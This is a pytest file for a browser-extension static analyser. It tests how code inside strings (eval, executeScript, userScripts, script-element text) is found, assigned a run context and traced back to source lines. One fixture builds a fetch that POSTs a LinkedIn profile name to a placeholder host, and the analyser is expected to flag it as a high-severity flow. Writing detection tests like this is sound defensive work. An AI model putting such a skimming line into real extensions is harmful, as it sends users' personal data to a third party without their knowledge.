"""Code that stands in strings: what becomes a script, where it runs, and where its parts are shown."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from skimtrace.javascript.ir import Call, Get, Read
from tests.extension.made import Content
from tests.flow.made import analysed, told
from tests.flow.reaching import CONTENT, HOSTS, POPUP, WORKER, Made

READ = "document.querySelector('.pv-top-card__name').textContent"
SEND = f"fetch('https://a.example/in', {{method: 'POST', body: {READ}}})"
PERMITTED = {"host_permissions": ["https://www.linkedin.com/*"]}


def places(made: Made, name: str) -> list[tuple[str, int, int]]:
    """File, line and column of the calls of a function inside code strings."""
    found = []
    for unit in made.string_units():
        ops = unit.module.ops
        for op, start in zip(ops, unit.module.starts, strict=True):
            if isinstance(op, Call):
                callee = ops[op.callee]
                if isinstance(callee, Read | Get) and callee.name == name:
                    found.append((unit.file, *unit.module.positions.line_column(start)))
    return sorted(found)


@pytest.mark.parametrize(
    "call",
    [
        'chrome.tabs.executeScript(7, {code: "run(1)"})',
        "browser.tabs.executeScript({code: `run(1)`})",
        'const code = "run" + "(1)"; chrome.tabs.executeScript(7, {code})',
        'chrome.tabs.executeScript(7, {code: ["run(1)", "run(2)"].join(";")})',
        'const inject = code => chrome.tabs.executeScript(7, {code}); inject("run(1)")',
        'browser.userScripts.execute({target: {tabId: 1}, js: [{code: "run(1)"}]})',
    ],
)
def test_injected_code_is_a_content_script_of_the_permitted_pages(call: str) -> None:
    made = Made({**WORKER, **HOSTS}, {"bg.js": f"\n{call}"})
    assert made.strings() == {"bg.js:2#code": ["injected:bg.js:2#code"]}
    context = made.contexts["injected:bg.js:2#code"]
    assert context.origin.endswith("at bg.js:2")
    assert made.hosts(context.id) == ["https://b.example/*"]
    assert context.scripts == ("bg.js:2#code",)


def test_code_of_a_registration_runs_beside_its_files() -> None:
    made = Made(
        {**WORKER, **HOSTS},
        {
            "bg.js": 'chrome.userScripts.register([{id: "u", matches: ["https://c.example/*"], '
            'js: [{file: "x.js"}, {code: "run(1)"}]}]);',
            "x.js": "",
        },
    )
    assert made.of("x.js") == made.strings()["bg.js:1#code"] == ["registered:u"]
    assert made.hosts("registered:u") == ["https://c.example/*"]


@pytest.mark.parametrize(
    "code",
    [
        's.textContent = "run(1)";',
        's.innerHTML = "run(1)";',
        's.text = "run(1)";',
        's.appendChild(document.createTextNode("run(1)"));',
        'const t = document.createTextNode("run(1)"); s.append(t);',
        'const put = text => { s.textContent = text; }; put("run(1)");',
        's.textContent = policy.createScript("run(1)");',
    ],
)
def test_the_text_of_a_script_element_runs_in_the_page(code: str) -> None:
    made = Made(CONTENT, {"c.js": f'const s = document.createElement("script");\n{code}'})
    assert made.strings() == {"c.js:2#code": ["page-world:c.js:2#code"]}
    assert made.hosts("page-world:c.js:2#code") == ["https://a.example/*"]
    assert made.origin("page-world:c.js:2#code") == "script element at c.js:2"


def test_the_text_of_another_element_is_no_code() -> None:
    made = Made(CONTENT, {"c.js": 'const s = document.createElement("style"); s.textContent = "run(1)";'})
    assert made.strings() == {}


@pytest.mark.parametrize(
    "code",
    [
        'eval("run(1)")',
        'window.eval("run(1)")',
        '(0, eval)("run(1)")',
        'new Function("a", "run(1)")',
        'Function("run(1)")()',
        'setTimeout("run(1)", 10)',
        "window.setInterval('run(1)', 10)",
    ],
)
def test_evaluated_code_runs_where_it_stands(code: str) -> None:
    made = Made(POPUP, {"popup.html": "<script src=popup.js></script>", "popup.js": code})
    assert made.strings() == {"popup.js:1#code": ["page:popup.html"]}


@pytest.mark.parametrize(
    "code",
    [
        "setTimeout(function () { run(1); }, 10)",
        "setTimeout(run, 10); setTimeout(run.bind(null, 'x()'), 10)",
        'Function("return this")()',
        'eval("7")',
        "eval(text)",
        'new Function("return " + text)',
        "const eval2 = 1; my.eval('run(1)')",
    ],
)
def test_what_is_no_code_in_a_string_or_says_nothing(code: str) -> None:
    assert Made(WORKER, {"bg.js": code}).strings() == {}


def test_code_in_unreached_scripts_is_analysed_and_unreached() -> None:
    made = Made(WORKER, {"bg.js": "", "lost.js": 'eval("run(1)"); chrome.tabs.executeScript({code: "run(2)"})'})
    assert made.strings() == {"lost.js:1#code": [], "lost.js:1#code2": []}


def test_code_in_code() -> None:
    made = Made(WORKER, {"bg.js": "eval(\"eval('run(1)'); chrome.tabs.executeScript({file: 'x.js'})\")", "x.js": ""})
    assert made.strings() == {"bg.js:1#code": ["service-worker"], "bg.js:1#code2": ["service-worker"]}
    assert made.of("x.js") == ["injected:x.js"]


def test_a_literal_is_shown_where_it_stands() -> None:
    made = Made(
        WORKER, {"bg.js": 'const é = "ü"; eval("é(); run(1)");\n  eval(`\n run(2);\n`); eval("\\n\\n run(3)");'}
    )
    assert places(made, "run") == [("bg.js", 1, 27), ("bg.js", 3, 2), ("bg.js", 4, 11)]
    # What an escape keeps from standing there as it is, is shown at the beginning of the literal.


def test_a_function_that_is_made_text_is_shown_where_it_stands() -> None:
    source = (
        'function hook(x) {\n  "use strict";\n  run(x);\n}\n'
        'const s = document.createElement("script");\n'
        's.textContent = "\\n(" + hook.toString() + ")(" + JSON.stringify(data) + "); run(2)";'
    )
    made = Made(CONTENT, {"c.js": source})
    assert made.strings() == {"c.js:6#code": ["page-world:c.js:6#code"]}
    assert places(made, "run") == [("c.js", 3, 3), ("c.js", 6, 77)]


@pytest.mark.parametrize("text", ['"(" + hook + ")()"', "`(${hook})()`", '"(" + String(hook) + ")();"'])
def test_the_ways_to_make_a_function_text(text: str) -> None:
    source = f"const hook = () => {{ run(1); }};\nchrome.tabs.executeScript(1, {{code: {text}}});"
    made = Made({**WORKER, **HOSTS}, {"bg.js": source})
    assert made.strings() == {"bg.js:2#code": ["injected:bg.js:2#code"]}
    assert places(made, "run") == [("bg.js", 1, 22)]


def test_a_function_of_another_file_is_shown_at_the_call() -> None:
    made = Made(
        {"background": {"service_worker": "bg.js", "type": "module"}, **HOSTS},
        {
            "bg.js": 'import {hook} from "./hook.js";\nchrome.tabs.executeScript(1, {code: `(${hook})()`});',
            "hook.js": "\n\nexport function hook() { run(1); }",
        },
    )
    assert places(made, "run") == [("bg.js", 2, 38)]


def test_unknown_parts_are_no_address_and_no_error() -> None:
    made = Made(
        {**WORKER, **HOSTS},
        {"bg.js": 'chrome.tabs.executeScript({code: "const x = " + value + "; fetch(\'https://" + host + "/x\');"})'},
    )
    (unit,) = made.string_units()
    assert unit.script.text == "const x = undefined; fetch('https://{…}/x');"
    assert unit.module.error_lines == []


def test_code_that_is_put_together_line_by_line_is_one_text() -> None:
    made = Made(
        {**WORKER, **HOSTS},
        {
            "bg.js": 'let code = "const id = " + JSON.stringify(id) + ";";\n'
            'code += "const a = read(id);\\n";\nif (more) {\n  code += `run(a);`;\n}\n'
            "chrome.tabs.executeScript({code});"
        },
    )
    (unit,) = made.string_units()
    assert unit.script.text == "const id = undefined;const a = read(id);\nrun(a);"
    assert places(made, "read") == [("bg.js", 2, 10)]
    assert places(made, "run") == [("bg.js", 4, 12)]


@pytest.mark.parametrize(
    ("code", "text"),
    [
        ('start + "run(1); done = 1"', "undefined;run(1); done = 1"),
        ('start + ".run(1); done = 1"', "undefined.run(1); done = 1"),
        ('"run(1); go(2);" + end', "run(1); go(2);undefined;"),
        ('"run(1); go(2, " + end + ")"', "run(1); go(2, undefined)"),
        ('"run(1); go(\'" + end + "\')"', "run(1); go('{…}')"),
        ('"run(1); go(\'it\\\\\'s " + end + "\')"', "run(1); go('it\\'s {…}')"),
    ],
)
def test_what_stands_for_an_unknown_part(code: str, text: str) -> None:
    (unit,) = Made(WORKER, {"bg.js": f"eval({code})"}).string_units()
    assert unit.script.text == text


def test_broken_code_is_a_parse_error_at_its_line() -> None:
    made = Made(WORKER, {"bg.js": '\neval("run(1); ) (");'})
    (unit,) = made.string_units()
    assert unit.module.error_lines == [2]


def test_what_is_broken_only_by_one_of_several_values_is_no_parse_error() -> None:
    made = Made(WORKER, {"bg.js": 'let value = ""; onLoad(() => { value = "[1]"; }); eval("items = " + value + ";");'})
    assert [(unit.script.text, unit.module.error_lines) for unit in made.string_units()] == [
        ("items = ;", []),
        ("items = [1];", []),
    ]


def test_text_that_doubles_itself_is_left_out() -> None:
    doubling = "".join(f"const a{n + 1} = a{n} + a{n};\n" for n in range(40))
    made = Made(WORKER, {"bg.js": f'const a0 = "run(1);";\n{doubling}eval(a40);\neval(a3);'})
    assert list(made.strings()) == ["bg.js:1#code"]
    assert sum(len(unit.script.text or "") for unit in made.string_units()) == 8 * len("run(1);")


def test_code_nested_too_deep_is_said_to_be_left_out() -> None:
    code = "run(1)"
    for _ in range(6):
        code = f"eval({code!r})" if "'" not in code else "eval(" + repr(code).replace("\\'", "\\'") + ")"
    made = Made(WORKER, {"bg.js": code})
    assert len(made.strings()) == 4
    assert made.reached.limits == ("bg.js:1: code in a string was left out: nested too deep, or too much",)


def test_flows_in_code_strings_are_found_and_stand_in_their_lines() -> None:
    manifest = {"manifest_version": 2, "permissions": ["tabs", "https://www.linkedin.com/*"]}
    made: dict[str, Content] = {
        "manifest.json": manifest,
        "background.js": f'\nchrome.tabs.executeScript(null, {{code: "{SEND}"}});',
    }
    assert told(analysed(made)) == [
        "background.js:2 person.name -> background.js:2 body a.example https://a.example/in high"
    ]
    hook = f"function hook() {{\n  {SEND};\n}}\nconst s = document.createElement('script');\n"
    flows = analysed({"content.js": hook + 's.textContent = "(" + hook + ")()";'})
    assert set(told(flows)) == {"content.js:2 person.name -> content.js:2 body a.example https://a.example/in high"}


@given(
    st.lists(st.sampled_from(["'", '"', "`", "\\", "\n", "(", ")", "${", "}", "é", "a", "=", " ", "//"]), max_size=12)
)
def test_any_text_becomes_a_script_whose_places_are_in_the_file(pieces: list[str]) -> None:
    text = "go(1); run(2)" + "".join(pieces)
    quoted = "".join(f"\\u{ord(sign):04x}" if sign in "'\"`\\\n$" else sign for sign in text)
    made = Made(WORKER, {"bg.js": f'\neval("{quoted}" + more);\nlet after;'})
    (unit,) = made.string_units()
    assert (unit.script.text or "").startswith(text)
    lines = {unit.module.positions.line_column(start)[0] for start in unit.module.starts}
    assert lines <= {2}
